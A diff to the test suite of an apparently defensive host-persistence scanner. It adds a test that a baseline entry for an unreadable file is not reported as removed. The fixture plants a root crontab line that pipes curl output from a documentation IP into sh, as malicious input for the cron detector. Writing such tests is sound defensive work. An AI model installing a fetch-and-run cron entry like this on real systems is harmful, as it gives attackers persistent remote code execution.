@@ -10,6 +10,7 @@ import { Collector, type Detector } from '../../src/scan/detector.js';
 import { decideScan, runScan } from '../../src/scan/engine.js';
 import { MAX_LINE, readLines, splitLines } from '../../src/scan/detectors/util.js';
 import { cron } from '../../src/scan/detectors/cron.js';
+import { compareBaseline, saveBaseline } from '../../src/scan/baseline.js';
 import { shellStartup } from '../../src/scan/detectors/shell-startup.js';
 import { authorizedKeys } from '../../src/scan/detectors/authorized-keys.js';
 
@@ -136,5 +137,15 @@ describe('an input that exists but cannot be evaluated is an error (issue 15 §5
     expect(r.errors).toEqual([{ detector: 'boom', message: 'detector failed: parser broke' }]);
     const clean = decideScan(await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] }), 'high');
     expect([clean.exitCode, clean.errors, clean.unread]).toEqual([0, [], []]);
+  });
+
+  it('a baseline entry in a file that could not be read this time is not "gone" (unknown is not removed)', async () => {
+    const dir = root({ 'var/spool/cron/crontabs/root': '* * * * * curl -s http://203.0.113.9/a | sh\n' });
+    const accepted = saveBaseline(await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] }));
+    const now = await runScan(denying(await ImageHost.open(dir), '/var/spool/cron/crontabs/root'), defaultPolicy(), { detectors: [cron] });
+    expect(compareBaseline(now, accepted).gone).toEqual([]);
+    rmSync(join(dir, 'var/spool/cron/crontabs/root'));
+    const removed = await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] });
+    expect(compareBaseline(removed, accepted).gone.map((g) => g.path)).toEqual(['/var/spool/cron/crontabs/root']);
   });
 });
